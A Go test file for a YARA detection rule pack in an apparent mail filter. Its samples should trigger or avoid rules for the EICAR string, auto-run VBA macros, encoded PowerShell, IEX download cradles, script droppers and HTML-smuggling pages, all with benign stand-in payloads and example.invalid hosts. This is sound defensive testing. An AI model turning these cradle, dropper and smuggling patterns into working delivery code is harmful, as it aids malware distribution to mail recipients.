package rules_test

import (
	"context"
	"encoding/base64"
	"fmt"
	"io/fs"
	"runtime"
	"slices"
	"sort"
	"strings"
	"testing"
	"time"

	"github.com/hillu/go-yara/v4"
	"github.com/kensa-milter/kensa/message"
	"github.com/kensa-milter/kensa/rules"
	"github.com/kensa-milter/kensa/scanners"
	"github.com/kensa-milter/kensa/scanners/yarascan"
	"golang.org/x/sys/unix"

	"github.com/kensa-milter/kensa/internal/cryptkeys"
)

// The EICAR test string, assembled here so this file is not itself "infected".
var eicar = `X5O!P%@AP[4\PZX54(P^)7CC)7}$` + `EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*`

// encodedCommand is what PowerShell's -EncodedCommand expects.
func encodedCommand(script string) string {
	return base64.StdEncoding.EncodeToString(cryptkeys.UTF16LE(script))
}

// fakeZip is base64 of a harmless stand-in that starts like a ZIP file.
func fakeZip(n int) string {
	b := []byte("PK\x03\x04")
	for len(b) < n {
		b = append(b, []byte("kensa harmless stand-in payload ")...)
	}
	return base64.StdEncoding.EncodeToString(b[:n])
}

// fakeText is base64 of n bytes of plain text: a large payload with no magic.
func fakeText(n int) string {
	return base64.StdEncoding.EncodeToString([]byte(strings.Repeat("kensa plain text, nothing else. ", n/32+1)[:n]))
}

var samples = []struct {
	name     string
	filename string
	content  string
	want     []string // rule IDs, exactly
}{
	// EICAR
	{"eicar file", "eicar.com", eicar, []string{"Kensa_EICAR_Test_File"}},
	{"eicar in text", "note.txt", "see below\r\n" + eicar + "\r\nthanks", []string{"Kensa_EICAR_Test_File"}},
	{"eicar halves apart", "note.txt", strings.Replace(eicar, "$EICAR", "$ EICAR", 1), nil},

	// Office VBA macros (decompressed module source, as unpack hands it over)
	{"autoopen shell", "vba/NewMacros", `Attribute VB_Name = "NewMacros"
Sub AutoOpen()
    Dim r
    r = Shell("cmd.exe /c echo kensa-test", vbHide)
End Sub
`, []string{"Kensa_VBA_AutoRun_Exec"}},
	{"document_open download", "vba/ThisDocument", `Private Declare PtrSafe Function URLDownloadToFile Lib "urlmon" Alias "URLDownloadToFileA" (ByVal a As LongPtr, ByVal b As String, ByVal c As String, ByVal d As Long, ByVal e As LongPtr) As Long
Private Sub Document_Open()
    URLDownloadToFile 0, "http://example.invalid/x", Environ("TEMP") & "\x.txt", 0, 0
End Sub
`, []string{"Kensa_VBA_AutoRun_Exec"}},
	{"workbook_open wscript run", "vba/ThisWorkbook", `Private Sub Workbook_Open()
    Set sh = CreateObject("WScript.Shell")
    sh.Run "notepad.exe", 0
End Sub
`, []string{"Kensa_Script_Dropper", "Kensa_VBA_AutoRun_Exec"}},
	{"auto_open powershell", "vba/Module1", `sub auto_open()
    Shell "powershell -NoProfile -Command Get-Date"
end sub
`, []string{"Kensa_VBA_AutoRun_Exec"}},
	{"autoexec xmlhttp", "vba/Module2", `Sub AutoExec()
    Set h = CreateObject("MSXML2.XMLHTTP")
    h.Open "GET", "http://example.invalid/", False
End Sub
`, []string{"Kensa_Script_ActiveX", "Kensa_VBA_AutoRun_Exec"}},
	{"autoopen createobject", "vba/Module3", `Sub AutoOpen()
    Set d = CreateObject("Scripting.Dictionary")
    d.Add "k", "v"
End Sub
`, []string{"Kensa_VBA_AutoRun_CreateObject"}},
	{"autoclose alone", "vba/Module4", `Sub AutoClose()
    MsgBox "Goodbye"
End Sub
`, []string{"Kensa_VBA_AutoRun"}},

	// PowerShell
	{"encoded -enc", "run.bat", "powershell.exe -NoP -W Hidden -enc " + encodedCommand("Write-Output 'kensa test'"),
		[]string{"Kensa_PowerShell_EncodedCommand"}},
	{"encoded -EncodedCommand", "run.cmd", `"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -ExecutionPolicy Bypass -EncodedCommand ` + encodedCommand("Get-Date; Write-Output 'kensa'"),
		[]string{"Kensa_PowerShell_EncodedCommand"}},
	{"encoded pwsh /e", "a.txt", "pwsh /e " + encodedCommand("Write-Output 'kensa test'"),
		[]string{"Kensa_PowerShell_EncodedCommand"}},
	{"encoded en dash", "a.txt", "powershell \u2013ec " + encodedCommand("Write-Output 'kensa test'"),
		[]string{"Kensa_PowerShell_EncodedCommand"}},
	{"encoded utf-16 (shortcut)", "a.lnk", "L\x00\x00\x00" + string(cryptkeys.UTF16LE("powershell.exe -w hidden -e "+encodedCommand("Write-Output 'kensa test'"))),
		[]string{"Kensa_PowerShell_EncodedCommand"}},
	{"cradle iex webclient", "a.ps1", `IEX (New-Object Net.WebClient).DownloadString('http://example.invalid/a.ps1')`,
		[]string{"Kensa_PowerShell_Download_Cradle"}},
	{"cradle invoke-expression iwr", "a.ps1", `Invoke-Expression (iwr http://example.invalid/a -UseBasicParsing).Content`,
		[]string{"Kensa_PowerShell_Download_Cradle"}},
	{"cradle iex irm", "a.ps1", `iex (irm "http://example.invalid/a")`,
		[]string{"Kensa_PowerShell_Download_Cradle"}},

	// Windows Script Host droppers
	{"jscript wscript run", "a.js", `var sh = new ActiveXObject("WScript.Shell");
sh.Run("notepad.exe", 0);
`, []string{"Kensa_Script_Dropper"}},
	{"vbscript adodb savetofile", "a.vbs", `Set x = CreateObject("MSXML2.XMLHTTP")
x.Open "GET", "http://example.invalid/a", False
x.Send
Set s = CreateObject("ADODB.Stream")
s.Open
s.Type = 1
s.Write x.ResponseBody
s.SaveToFile "C:\Users\Public\a.txt", 2
`, []string{"Kensa_Script_Dropper"}},
	{"vbscript fso write and run", "a.vbs", `Set fso = CreateObject("Scripting.FileSystemObject")
Set f = fso.CreateTextFile("a.bat", True)
f.WriteLine "echo kensa"
f.Close
app.Run "a.bat"
`, []string{"Kensa_Script_Dropper"}},
	{"jscript xmlhttp only", "a.js", `var x = new ActiveXObject("MSXML2.XMLHTTP.6.0");
x.open("GET", "http://example.invalid/", false);
x.send();
`, []string{"Kensa_Script_ActiveX"}},

	// HTML smuggling
	{"blob zip payload", "invoice.html", `<html><body><script>
var b64 = "` + fakeZip(600) + `";
var bin = atob(b64);
var bytes = new Uint8Array(bin.length);
for (var i = 0; i < bin.length; i++) { bytes[i] = bin.charCodeAt(i); }
var blob = new Blob([bytes], {type: "application/zip"});
var a = document.createElement("a");
a.href = URL.createObjectURL(blob);
a.download = "invoice.zip";
a.click();
</script></body></html>`, []string{"Kensa_HTML_Smuggling_Blob"}},
	{"blob msSaveOrOpenBlob inline", "doc.htm", `<script>
var data = atob("` + fakeText(1200) + `");
var blob = new Blob([data]);
if (navigator.msSaveOrOpenBlob) { navigator.msSaveOrOpenBlob(blob, "doc.iso"); }
</script>`, []string{"Kensa_HTML_Smuggling_Blob"}},
	{"download link data url", "view.html", `<p>Your document is ready.</p>
<a href="data:application/zip;base64,` + fakeZip(1500) + `" download="invoice.zip">Download</a>`,
		[]string{"Kensa_HTML_Smuggling_DataURI"}},
	{"download attribute first", "view.html", `<a download="report.pdf" class="btn"
   href="data:application/octet-stream;base64,` + fakeText(1500) + `">Open</a>`,
		[]string{"Kensa_HTML_Smuggling_DataURI"}},

	// Clean mail
	{"plain text", "", "Hi Anna,\r\n\r\nthe meeting moves to Thursday 10:00. Please bring the shell samples for the beach project\r\nand the auto-open door specs.\r\n\r\nBest,\r\nBen\r\n", nil},
	{"newsletter", "", `<!DOCTYPE html><html><head><style>a{color:#06c}
@font-face { font-family: Brand; src: url(data:application/font-woff;base64,` + fakeText(3000) + `) format("woff"); }</style></head><body>
<h1>Spring newsletter</h1>
<img alt="logo" src="data:image/png;base64,` + fakeText(3000) + `">
<p>Read <a href="https://example.com/blog/autoopen-macros">why AutoOpen macros are dangerous</a> and
<a href="https://example.com/report.pdf" download>download our report</a>.</p>
<script>document.getElementById("y").textContent = new Date().getFullYear();</script>
<p><a href="https://example.com/unsubscribe?u=123">Unsubscribe</a></p></body></html>`, nil},
	{"web app blob without payload", "export.html", `<script>
function exportCSV(rows) {
  var blob = new Blob([rows.join("\n")], {type: "text/csv"});
  var a = document.createElement("a");
  a.href = URL.createObjectURL(blob);
  a.download = "export.csv";
  a.click();
}
var cfg = JSON.parse(atob(document.body.dataset.cfg));
</script>`, nil},
	{"shell script", "install.sh", `#!/bin/sh
set -eu
curl -fsSL https://example.com/install.sh -o /tmp/install.sh
sh /tmp/install.sh --prefix "$HOME/.local"
echo "done"
`, nil},
	{"ordinary powershell", "backup.ps1", `powershell -NoProfile -ExecutionPolicy Bypass -File C:\scripts\backup.ps1
Invoke-WebRequest -Uri https://example.com/tool.zip -OutFile tool.zip
Expand-Archive tool.zip -DestinationPath C:\tools
`, nil},
	{"office macro without autorun", "vba/Module1", `Attribute VB_Name = "Module1"
Sub AutoFitColumns()
    Dim d As Object
    Set d = CreateObject("Scripting.Dictionary")
    Set fso = CreateObject("Scripting.FileSystemObject")
    Set f = fso.OpenTextFile("C:\data\report.csv", 1)
    Do Until f.AtEndOfStream
        d.Add d.Count, f.ReadLine
    Loop
    ActiveSheet.Columns("A:F").AutoFit
End Sub
`, nil},
}

func newPackScanner(t testing.TB) *yarascan.Scanner {
	s, errs, err := yarascan.New(yarascan.Options{Builtin: true})
	if err != nil {
		t.Fatalf("compile pack: %v %v", err, errs)
	}
	if len(errs) > 0 {
		t.Fatalf("pack compiles with messages: %v", errs)
	}
	return s
}

func TestSamples(t *testing.T) {
	s := newPackScanner(t)
	for _, tc := range samples {
		t.Run(tc.name, func(t *testing.T) {
			m := &message.Message{Parts: []*message.Part{{Path: "1", Filename: tc.filename, Content: []byte(tc.content)}}}
			got, err := s.Scan(context.Background(), m)
			if err != nil {
				t.Fatal(err)
			}
			ids := []string{}
			for _, f := range got {
				ids = append(ids, f.ID)
			}
			sort.Strings(ids)
			want := append([]string{}, tc.want...)
			sort.Strings(want)
			if !slices.Equal(ids, want) {
				t.Errorf("rules fired %v, want %v", ids, want)
			}
		})
	}
}

// packRules compiles the pack with go-yara directly, to read each rule's
// metadata as written.
func packRules(t *testing.T) map[string]map[string]any {
	t.Helper()
	c, err := yara.NewCompiler()
	if err != nil {
		t.Fatal(err)
	}
	names, err := fs.Glob(rules.FS, "*.yar")
	if err != nil || len(names) == 0 {
		t.Fatalf("no embedded rule files: %v", err)
	}
	for _, n := range names {
		b, _ := rules.FS.ReadFile(n)
		if err := c.AddString(string(b), n); err != nil {
			t.Fatalf("%s: %v %v", n, err, c.Errors)
		}
	}
	if len(c.Warnings) > 0 {
		t.Errorf("pack compiles with warnings: %v", c.Warnings)
	}
	r, err := c.GetRules()
	if err != nil {
		t.Fatal(err)
	}
	out := map[string]map[string]any{}
	for _, rule := range r.GetRules() {
		if rule.IsPrivate() {
			continue
		}
		metas := map[string]any{}
		for _, m := range rule.Metas() {
			metas[m.Identifier] = m.Value
		}
		out[rule.Identifier()] = metas
	}
	return out
}

// TestEveryRuleHasMetaAndSamples keeps the pack honest: a new rule needs its
// metadata and a sample that makes it fire.
func TestEveryRuleHasMetaAndSamples(t *testing.T) {
	tested := map[string]bool{}
	for _, tc := range samples {
		for _, id := range tc.want {
			tested[id] = true
		}
	}
	pack := packRules(t)
	for id, metas := range pack {
		if d, _ := metas["description"].(string); d == "" {
			t.Errorf("%s: no description", id)
		}
		if a, _ := metas["author"].(string); a != "Kensa" {
			t.Errorf("%s: author %v, want Kensa", id, metas["author"])
		}
		sev, _ := metas["severity"].(string)
		if _, err := scanners.ParseSeverity(sev); err != nil {
			t.Errorf("%s: %v", id, err)
		}
		if _, ok := metas["score"].(int); !ok {
			t.Errorf("%s: score %v is not an integer", id, metas["score"])
		}
		if !tested[id] {
			t.Errorf("%s: no sample makes it fire", id)
		}
	}
	for id := range tested {
		if _, ok := pack[id]; !ok {
			t.Errorf("samples expect %s, which the pack does not have", id)
		}
	}
}

// TestSeverities pins the severity and score of each rule as findings carry them.
func TestSeverities(t *testing.T) {
	want := map[string]string{
		"Kensa_EICAR_Test_File":            "malicious/100",
		"Kensa_VBA_AutoRun_Exec":           "malicious/100",
		"Kensa_VBA_AutoRun_CreateObject":   "suspicious/50",
		"Kensa_VBA_AutoRun":                "suspicious/30",
		"Kensa_PowerShell_EncodedCommand":  "suspicious/60",
		"Kensa_PowerShell_Download_Cradle": "malicious/100",
		"Kensa_Script_Dropper":             "malicious/100",
		"Kensa_Script_ActiveX":             "suspicious/30",
		"Kensa_HTML_Smuggling_Blob":        "malicious/100",
		"Kensa_HTML_Smuggling_DataURI":     "malicious/100",
	}
	s := newPackScanner(t)
	if s.RuleCount() != len(want) {
		t.Errorf("pack has %d rules, this test knows %d", s.RuleCount(), len(want))
	}
	got := map[string]string{}
	for _, tc := range samples {
		f, err := s.Scan(context.Background(), &message.Message{Parts: []*message.Part{{Path: "1", Content: []byte(tc.content)}}})
		if err != nil {
			t.Fatal(err)
		}
		for _, x := range f {
			got[x.ID] = fmt.Sprintf("%s/%d", x.Severity, x.Score)
		}
	}
	for id, w := range want {
		if got[id] != w {
			t.Errorf("%s: %q, want %q", id, got[id], w)
		}
	}
}

// TestPackSpeed guards against rules that crawl on crafted input: every
// buffer here is about 1 MiB of the pack's own atoms, which once took
// seconds (a greedy "<a [^>]{0,1000}" regex, "@a[i]" in a loop). Each takes
// a few tens of milliseconds now. It measures the CPU time of this thread,
// not the wall clock, so a busy machine does not make it fail.
func TestPackSpeed(t *testing.T) {
	s := newPackScanner(t)
	runtime.LockOSThread() // Scan and its cgo calls run on this thread
	defer runtime.UnlockOSThread()
	cpu := func() time.Duration {
		var ru unix.Rusage
		if err := unix.Getrusage(unix.RUSAGE_THREAD, &ru); err != nil {
			t.Fatal(err)
		}
		return time.Duration(ru.Utime.Nano() + ru.Stime.Nano())
	}
	const size = 1 << 20
	fill := func(unit string) []byte { return []byte(strings.Repeat(unit, size/len(unit)+1)[:size]) }
	inputs := map[string][]byte{
		"unclosed links":   fill("<a download <a href=x "),
		"smuggling atoms":  fill("atob( new Blob( createObjectURL \"UEsDBAAAA data:application/zip;base64,AAAA "),
		"eicar heads":      fill(eicar[:28]),
		"vba atoms":        fill("Sub AutoOpen Sub Document_Open Shell CreateObject( "),
		"powershell atoms": fill("powershell -enc -e /e AAAA pwsh iex iwr "),
		"script atoms":     fill("CreateObject(\"WScript.Shell\") new ActiveXObject(\".Run( "),
		"base64":           fill(fakeText(3000)),
	}
	for name, buf := range inputs {
		start := cpu()
		if _, err := s.Scan(context.Background(), &message.Message{Parts: []*message.Part{{Path: "1", Content: buf}}}); err != nil {
			t.Fatal(err)
		}
		if took := cpu() - start; took > 500*time.Millisecond {
			t.Errorf("%s: 1 MiB took %v of CPU", name, took)
		} else {
			t.Logf("%s: %v of CPU", name, took)
		}
	}
}
